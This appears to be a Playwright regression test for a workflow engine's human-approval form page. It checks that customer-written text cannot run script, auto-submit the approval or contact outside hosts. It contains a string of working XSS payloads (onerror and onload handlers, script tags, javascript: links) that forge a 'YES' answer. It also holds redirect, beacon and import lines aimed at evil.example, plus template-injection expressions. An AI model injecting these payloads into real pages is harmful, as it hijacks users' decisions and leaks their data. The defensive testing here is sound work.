import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { openEmbeddedEngine } from '../../engine-adapter/embedded/open-embedded-engine';
import { openPage } from '../shared/chromium';
import { findChromium } from '../shared/find-chromium';
import { QuestionDesk } from '../support/waiting/question-desk';

const chromium = findChromium();
const inBrowser = chromium === undefined ? describe.skip : describe;

/** Answers for the person as soon as one of them runs. */
const send = `const f=new FormData();f.append('field-0','YES (written by the customer)');fetch(location.href,{method:'POST',body:f})`;
const quoted = send.replaceAll("'", '&#39;');
const text = [
	...[
		`<img src=x onerror="${send}">`,
		`<svg onload='${quoted}'></svg>`,
		`<script>${send}</script>`,
		`<SCRIPT src="data:text/javascript,${send}"></SCRIPT>`,
	],
	...[
		`<video controls><source onerror="${send}" src=x></video>`,
		`<iframe srcdoc="<script>parent.document.forms[0].submit()</script>"></iframe>`,
	],
	...[
		'<base href="https://evil.example/">',
		'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
		'<img src="https://evil.example/seen">',
	],
	...['</p></form><form action="https://evil.example/"><button autofocus>Send</button></form>', `<a href="javascript:${quoted}">click</a>`],
	...['<style>@import "https://evil.example/"</style>', '{{ 6000 + 78 }} {{ $json.order + 6070 }}'],
].join(' ');
const written = '={{ $json.text }}';
const fields = [
	{ fieldName: 'decision', fieldLabel: written, placeholder: written },
	{ fieldName: 'known', fieldLabel: 'Known', defaultValue: written },
	{ fieldName: 'choice', fieldLabel: 'Choice', fieldType: 'checkbox', fieldOptions: { values: [{ option: written }] } },
	{ fieldName: 'note', fieldLabel: 'note', fieldType: 'html', html: `=<b>Rules</b> {{ $json.text }}` },
];
const title = { options: { responseFormTitle: written, responseFormButtonLabel: written } };
const forms = {
	freeText: { responseType: 'freeText' },
	customForm: { responseType: 'customForm', formFields: { values: fields }, ...title },
};

inBrowser('what a customer wrote, in the page of a link', () => {
	let desk: QuestionDesk;
	let browser: { page: Page; close: () => Promise<void> };
	beforeAll(async () => {
		desk = await QuestionDesk.open((folder) => openEmbeddedEngine({ file: join(folder, 'engine.db') }));
		browser = await openPage(chromium!);
	}, 600_000);
	afterAll(async () => {
		await browser?.close();
		await desk?.close();
	});

	it.each(Object.entries(forms))(
		'answers nothing and asks nothing of others, and the person can answer: %s (activepieces/activepieces#14024, n8n-io/n8n#16329)',
		async (_name, parameters) => {
			const { links, end } = await desk.askUntilEnd({
				parameters: { message: '=They wrote: {{ $json.text }}', ...parameters },
				variables: { text },
			});
			const { page } = browser;
			const own = new URL(desk.addressOf(links[0]!)).origin;
			const answers: string[] = [];
			const elsewhere: string[] = [];
			page.on('request', (request) => void (request.method() === 'POST' && answers.push(request.url())));
			// What the policy refuses is asked of nobody.
			page.on('requestfailed', (request) => void (request.failure()?.errorText !== 'csp' && elsewhere.push(request.url())));
			page.on('requestfinished', (request) => void elsewhere.push(request.url()));
			const notOwn = () => elsewhere.filter((url) => !url.startsWith(own));
			await page.goto(desk.addressOf(links[0]!), { waitUntil: 'networkidle' });
			expect([...answers, ...notOwn()]).toEqual([]);
			expect(await page.locator('#n8n-form .form-header p').innerText()).toContain('<img src=x onerror=');
			expect(await page.content()).not.toMatch(/607[78]/);
			expect((await desk.visit(links[0]!)).status).toBe(200);

			await page.locator('[name=field-0]').fill('Only half of it');
			await page.locator('#submit-btn').click();
			await page.getByText('Got it, thanks').waitFor();
			expect(JSON.stringify(await end)).toContain('Only half of it');
			expect(answers).toHaveLength(1);
			expect(notOwn()).toEqual([]);
			page.removeAllListeners();
		},
	);
});
